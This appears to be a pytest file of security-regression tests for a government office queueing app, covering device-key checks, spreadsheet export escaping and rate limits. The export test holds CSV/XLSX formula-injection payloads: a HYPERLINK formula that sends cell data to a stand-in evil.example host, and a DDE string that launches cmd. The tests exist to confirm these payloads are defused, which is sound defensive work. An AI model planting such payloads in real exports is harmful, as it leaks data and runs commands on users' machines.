"""Findings of the security review (hostile LAN client, curious clerk, office admin, citizen with a link).
Each test failed on main before its fix."""

from __future__ import annotations

from sqlalchemy import select

from antrean.kernel.models import Ticket
from hardware import devices
from tests.integration.test_survey_pages import core_, desk, serve  # noqa: F401 - fixtures


def _offer(core, counter, clerk):
    t = serve(core, counter, clerk)
    with core.db.read() as s:
        tid = s.execute(select(Ticket.id).where(Ticket.token == t["token"])).scalar_one()
    core.survey.offer(counter["id"], tid, clerk)
    return t


def test_an_anonymous_lan_client_cannot_read_the_token_offered_to_a_counter_tablet(client, core_, desk):
    """Review: GET /survei/loket/<id>.json handed the served ticket's status token to anyone, so a script on the
    office Wi-Fi could poll every counter and answer each citizen's SKM before they did (and read /t/<token>)."""
    counter, clerk = desk
    t = _offer(core_, counter, clerk)
    r = client.get(f"/survei/loket/{counter['id']}.json")
    assert r.status_code == 403 and t["token"] not in r.text and "belum terdaftar" in r.json["message"]
    assert (
        client.get(f"/survei/loket/{counter['id']}.json", headers={"X-Device-Key": "ak_" + "x" * 40}).status_code == 403
    )
    key = devices.add(core_, "tablet-loket-1")
    ok = client.get(f"/survei/loket/{counter['id']}.json", headers={"X-Device-Key": key})
    assert ok.status_code == 200 and ok.json["offer"]["token"] == t["token"]


def test_names_starting_like_a_formula_stay_text_in_csv_and_xlsx(app, core_, desk, admin):
    """Review: a counter (or staff member, service, office) named "=HYPERLINK(…)" reached the Camat's XLSX as a
    live formula (openpyxl writes any str starting with "=" as one) and the CSV as a cell Excel evaluates."""
    import csv
    import io

    from openpyxl import load_workbook

    from antrean.services.exports import rows_to_csv, to_csv, to_xlsx
    from tests.integration.test_console import login

    counter, clerk = desk
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
    core_.queue.save_counter(admin, counter_id=counter["id"], name=evil, number=1, services=list(core_.sops))
    serve(core_, counter, clerk)
    c = app.test_client()
    login(c, "camat")
    xlsx = c.get("/console/laporan/unduh?format=xlsx")  # this month
    assert xlsx.status_code == 200
    cells = [cell for ws in load_workbook(io.BytesIO(xlsx.data)) for row in ws.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    # the same rule for every text cell, whoever named it: the export functions themselves
    report = {
        "office": {"name": "Kecamatan Uji"},
        "period": {"label": "Nov", "from": "2026-11-01", "to": "2026-11-30"},
        "totals": {
            k: 0
            for k in (
                "issued",
                "served",
                "no_show",
                "wait_median_minutes",
                "wait_p90_minutes",
                "service_median_minutes",
                "applications_done",
                "applications_returned",
                "within_standard_pct",
            )
        },
        "staff": [{"name": "@SUM(1+1)*cmd|' /C calc'!A0", "served": 1}],
        "counters": [{"name": evil, "issued": 1}],
        "services": [{"service": "ktp", "name": "+1-1", "issued": 2}],
    }
    wb = load_workbook(io.BytesIO(to_xlsx(report)))
    assert wb["Per loket"]["A2"].value == evil and wb["Per loket"]["A2"].data_type == "s"
    assert wb["Per petugas"]["A2"].data_type == "s" and wb["Per layanan"]["B2"].data_type == "s"
    rows = list(csv.reader(io.StringIO(to_csv(report, "counters").decode("utf-8-sig"))))
    assert rows[1][0] == "'" + evil and rows[1][1] == "1"
    regency = list(
        csv.reader(
            io.StringIO(rows_to_csv([{"office": "-2+3", "served": 4}], ("office", "served")).decode("utf-8-sig"))
        )
    )
    assert regency[1] == ["'-2+3", "4"]


def test_public_transparency_pages_are_rate_limited_like_the_board(settings_dict, migrated_sqlite):
    """Review: /publik, /publik/kios and /publik.json recompute last month's figures (every served ticket, every
    step log, the IKM) for any anonymous caller with no limit at all — the flood issue 9 closed for
    /display/state.json was open again one blueprint over."""
    from antrean import create_app

    app = create_app(settings_dict | {"rate_board": "3/minute"})
    try:
        c = app.test_client()
        phone = {"REMOTE_ADDR": "192.168.1.77"}
        codes = [
            c.get(u, environ_base=phone).status_code
            for u in ("/publik", "/publik.json", "/publik/kios", "/publik.json")
        ]
        assert codes == [200, 200, 200, 429]
        refused = c.get("/publik.json", environ_base=phone)
        assert refused.headers["Retry-After"] and "Terlalu banyak" in refused.json["message"]
        assert c.get("/publik.json", environ_base={"REMOTE_ADDR": "192.168.1.78"}).status_code == 200
        assert c.get("/publik.json").status_code == 200  # the server PC itself is not limited
    finally:
        app.extensions["antrean"].close()
